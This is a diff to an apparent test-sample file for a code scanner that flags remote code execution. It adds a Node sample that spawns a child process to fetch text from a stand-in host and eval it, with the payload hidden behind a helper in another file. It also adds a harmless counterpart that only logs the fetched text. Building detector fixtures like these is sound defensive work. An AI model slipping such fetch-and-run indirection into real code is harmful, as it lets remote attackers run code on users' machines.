@@ -133,6 +133,17 @@ export const REMOTE: Samples = {
       expected: [at('remote-command', 'high', 16)],
     })),
     {
+      name: 'a program whose text a function in a table of another file makes',
+      files: imported(
+        "const { spawn } = require('child_process');\nconst { leap } = require('./units');\nspawn(process.execPath, leap.words(leap.from), { stdio: 'ignore' });\n",
+        {
+          'units.js':
+            "exports.leap = {\n  from: 'https://a.weir.test/s',\n  words: (url) => ['-e', `fetch(${JSON.stringify(url)}).then((r) => r.text()).then((t) => (0, eval)(t))`],\n};\n",
+        },
+      ),
+      expected: [{ rule: 'remote-code', file: 'index.js', line: 1, severity: 'high' }],
+    },
+    {
       name: 'Python: a method of whose name the server says the rest',
       files: wheel(
         "import requests, subprocess\nclass Beat:\n    def on_task(self, hint):\n        return subprocess.run(hint.split())\n    def go(self):\n        answer = requests.get('https://a.weir.test/beat').json()\n        getattr(self, 'on_' + answer['kind'])(answer['hint'])\nBeat().go()\n",
@@ -158,6 +169,16 @@ export const REMOTE: Samples = {
         {
           'get.js': "exports.get = async () => (await fetch('https://a.weir.test/r')).text();\n",
           'run.js': 'exports.run = (text) => new Function(text);\n',
+        },
+      ),
+    ),
+    quiet(
+      'a program whose text a function in a table of another file makes, and which runs nothing else',
+      imported(
+        "const { spawn } = require('child_process');\nconst { leap } = require('./units');\nspawn(process.execPath, leap.words(leap.from), { stdio: 'ignore' });\n",
+        {
+          'units.js':
+            "exports.leap = {\n  from: 'https://api.weir.test/s',\n  words: (url) => ['-e', `fetch(${JSON.stringify(url)}).then((r) => r.text()).then((t) => console.log(t))`],\n};\n",
         },
       ),
     ),
